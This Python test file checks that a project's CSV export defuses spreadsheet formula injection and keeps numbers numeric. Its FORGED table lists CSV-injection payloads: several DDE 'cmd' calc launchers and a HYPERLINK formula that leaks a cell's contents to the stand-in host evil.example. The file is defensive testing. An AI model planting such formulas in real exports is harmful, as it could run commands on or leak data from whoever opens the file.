"""CSV exports neutralize cells a spreadsheet would evaluate (OWASP CSV injection), numbers stay numbers."""

import csv
import io
import json

import numpy as np
import pytest

from xbar.cli import main
from xbar.util.csv_safe import safe_cell, write_array

FORGED = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=cmd|' /C calc'!A0",
    "carriage return": "\r=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
}


@pytest.mark.bad_input
@pytest.mark.parametrize("name", FORGED)
def test_forged_cells_are_quoted_as_text(name):
    assert safe_cell(FORGED[name]) == "'" + FORGED[name]


@pytest.mark.parametrize("value", [-1.5, "-1.5e-06", 3, "+3", "-0", 0.0, "text", "a=b", None, True, "'quoted"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_non_finite_values_are_not_formulas():
    assert safe_cell(float("-inf")) == "'-inf" and np.isnan(safe_cell(float("nan")))
    buf = io.StringIO()
    write_array(buf, np.array([[-1.5, float("-inf")], [float("nan"), 2.0]]), "a,b")
    assert buf.getvalue() == "a,b\n-1.5,'-inf\nnan,2\n"


@pytest.mark.bad_input
def test_sweep_csv_export_neutralizes_forged_records(tmp_path, capsys):
    store = tmp_path / "r.jsonl"
    header = {"xbar_sweep": 1, "experiment": "crossbar", "axes": {"rows": [2]}, "figure": {}, "keys": ["k1"]}
    record = {"key": "k1", "params": {"rows": 2, "=label": FORGED["equals"]},
              "result": {"i_a": -1.5e-6, "note": FORGED["at"], "text": FORGED["minus"], "big": -3}}
    store.write_text(json.dumps(header) + "\n" + json.dumps(record) + "\n")
    out = tmp_path / "out.csv"
    assert main(["sweep", "--export", str(store), "--csv", str(out)]) == 0
    names, row = list(csv.reader(out.open()))
    cells = dict(zip(names, row))
    assert "'=label" in cells and cells["'=label"] == "'" + FORGED["equals"]
    assert cells["note"] == "'" + FORGED["at"] and cells["text"] == "'" + FORGED["minus"]
    assert float(cells["i_a"]) == -1.5e-6 and cells["big"] == "-3" and cells["rows"] == "2"


def test_solve_csv_keeps_negative_values_numbers(tmp_path):
    volts = tmp_path / "v.csv"
    volts.write_text("-0.1,0.05\n0.1,-0.05\n")
    currents, outputs = tmp_path / "i.csv", tmp_path / "o.csv"
    assert main(["solve", "--rows", "2", "--cols", "2", "--inputs", str(volts), "-o", str(currents),
                 "--voltages", str(outputs)]) == 0
    for path in (currents, outputs):
        text = path.read_text()
        assert "'" not in text and "-" in text
        assert (np.loadtxt(path, delimiter=",", skiprows=1) < 0).any()
